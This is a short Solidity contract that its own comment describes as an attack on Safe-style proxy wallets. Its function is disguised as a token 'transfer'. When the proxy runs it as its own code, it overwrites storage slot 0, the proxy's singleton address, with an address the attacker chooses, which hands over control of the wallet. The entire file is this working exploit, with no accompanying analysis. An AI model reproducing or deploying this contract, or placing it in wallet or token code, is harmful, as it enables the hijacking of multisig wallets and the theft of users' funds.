// SPDX-License-Identifier: MIT
pragma solidity 0.8.34;

/// @notice An attack on wallets behind a proxy: run as their own code, what looks like the transfer of a token names other code to run from then on.
contract DelegatedOverwrite {
    // Slot 0, where a Safe's proxy keeps whose code it runs.
    address private _singleton;

    function transfer(address to, uint256) external returns (bool) {
        _singleton = to;
        return true;
    }
}
